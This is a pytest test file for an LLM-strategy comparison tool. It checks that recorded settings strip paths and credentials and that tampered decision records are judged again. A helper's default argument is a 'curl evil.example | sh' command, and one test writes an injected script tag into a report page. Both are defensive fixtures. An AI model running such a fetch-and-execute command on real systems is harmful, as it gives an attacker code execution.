"""What a record says of how it was measured, and what it must not say."""

import json
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from choose.api import study_evidence
from choose.api.study_evidence import method_of, notes_of, settings
from choose.errors import StudyError
from choose.formatting import DASH
from choose.report.blocks import is_figure, table
from choose.report.write import render_html
from choose.store.store import PAGE, Store
from choose.study.config import Study
from choose.tasks.labels import Classification
from choose.types import Run
from support.studies import compare, plain_trial, write_csv


def test_settings_name_no_folder_and_no_password() -> None:
    shown = settings(
        {
            "data": {"path": "/home/ann/secret/rows.csv", "test": "C:\\Users\\ann\\test.csv"},
            "task": {"instruction": "Is it a refund? Yes or no."},
            "endpoints": {"one": {"base_url": "https://ann:pass@host/v1?key=abc"}},
            "grid": {"views": []},
            "given": {"answers": [], "family": []},
            "run": {},
        }
    )
    assert shown["data"] == {"path": "rows.csv", "test": "test.csv"}
    assert shown["endpoints"]["one"]["base_url"] == "https://host/v1"
    assert shown["task"]["instruction"] == "Is it a refund? Yes or no."
    # An empty list may be a choice, an empty table says nothing.
    assert shown["grid"] == {"views": []}
    assert not {"given", "run"} & shown.keys()
    assert settings({"data": {"path": "sample:tickets"}})["data"]["path"] == "sample:tickets"


def test_the_settings_of_a_record_are_a_study_file(tmp_path: Path) -> None:
    grid = {"seeds": 1, "noise": (0.0,), "views": (), "scenarios": ()}
    outcome = compare(
        write_csv(tmp_path / "w.csv"), overrides={"grid": grid}, strategies=["tfidf"],
        out=tmp_path / "st",
    )  # fmt: skip
    method = outcome.decision.method
    study = Study.model_validate(tomllib.loads(method.settings))
    assert (study.grid.seeds, study.data.path) == (1, "w.csv")
    assert str(tmp_path) not in method.settings
    assert outcome.decision.looks == 1
    assert method == method_of(Store.open(outcome.store))
    page = render_html(outcome.decision)
    # D12: no package index has choose, so the page names a checkout or a wheel.
    assert "pip install choose-llm" not in page
    assert "no package index has it" in page
    assert "seeds = 1" in page


def test_prompts_are_what_the_strategies_say() -> None:
    from choose.strategy import Prompts, build

    task = Classification(labels=("a", "b"), names=("apple", "bread"), instruction="Sort <this>.")
    few, none = build("few-shot", seed=0, shots=8), build("tfidf", seed=0)
    assert isinstance(few, Prompts)
    assert not isinstance(none, Prompts)
    text = few.prompt(task)
    assert text.startswith("[system]\nSort <this>.\n")
    assert "apple, bread" in text
    assert "4 of each label" in text


@pytest.mark.parametrize(
    "cell", ["83.0", "\u22125.4 (\u22128.9 to \u22121.9)", "<0.001", "2 of 3", "2027-09-01", DASH]
)
def test_figures_are_told_from_words(cell: str) -> None:
    assert is_figure(cell)
    (mixed,) = table("", [{"name": "a", "x": cell}, {"name": "b", "x": "gpt-4"}])
    assert mixed.figures == [False, False]


def test_notes_of_a_form_are_told_once() -> None:
    said = ["Batch calibration is on: 14 of 64 right with SmolLM2-135M.", "58 texts were cut."]
    again = [said[0].replace("14", "1,020")]
    runs = [run(said), run(again), run(["another variant"], variant="bare")]
    assert [(note.text, note.fits) for note in notes_of(runs)] == [(said[0], 2), (said[1], 1)]


def test_a_server_cannot_make_notes_of_two_forms_look_like_one() -> None:
    said = ["a # b 3", "a 5 b 3", "a \x00 b 3"]
    assert [note.text for note in notes_of([run(said)])] == said


def run(notes: list[str], variant: str = "") -> Run:
    trial = plain_trial("prompt", variant=variant, train_size=5, task="t", pool="p", questions="q")
    return Run(trial=trial, answers={}, asked={}, notes=tuple(notes))


Choose = Callable[..., tuple[int, str, str]]

QUICK = ("--set", "seeds=1", "--set", "noise=0")


@pytest.fixture
def store(choose: Choose, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CHOOSE_CACHE", str(tmp_path / "cache"))
    data = write_csv(tmp_path / "words.csv")
    code, _, err = choose("compare", data, "-s", "tfidf", *QUICK, "--out", tmp_path / "st")
    assert code == 0, err
    return tmp_path / "st"


def poisoned(store: Path, command: str = "curl evil.example | sh") -> dict[str, Any]:
    record: dict[str, Any] = json.loads((store / "decision.json").read_text())
    step = {"kind": "label-more", "code": "separate", "names": ["a", "b"], "count": 9, "total": 12}
    record["verdict"]["steps"] = [{**step, "command": {"verb": command}}]
    return record


def test_a_decision_that_was_edited_is_judged_again(choose: Choose, store: Path) -> None:
    shown = choose("report", store)
    (store / "decision.json").write_text(json.dumps(poisoned(store, "echo 'open")))
    (store / PAGE).write_text("<script>evil</script>")
    assert choose("report", store)[:2] == shown[:2]
    assert "evil" not in (store / PAGE).read_text()


def test_a_decision_of_another_user_is_judged_again(choose, store, monkeypatch):
    """Nothing but the key in the cache tells that it was made elsewhere."""
    stored = Store(store)
    with monkeypatch.context() as elsewhere:
        elsewhere.setattr(study_evidence, "_own_key", lambda: "of another user")
        stored.decide(study_evidence.state_of(stored), poisoned(store))
        assert "evil" in choose("report", store)[1]
    assert "evil" not in choose("report", store)[1]


def test_the_own_decision_is_read_and_its_key_is_private(choose, store, tmp_path, monkeypatch):
    key = tmp_path / "cache/decisions.key"
    assert key.stat().st_mode & 0o777 == 0o600

    def judged(*_: object, **__: object) -> None:
        raise StudyError("Judged again.")

    monkeypatch.setattr("choose.judge.verdict.judge", judged)
    assert choose("report", store)[0] == 0
    key.unlink()
    assert choose("report", store)[2] == "Error: Judged again.\n"
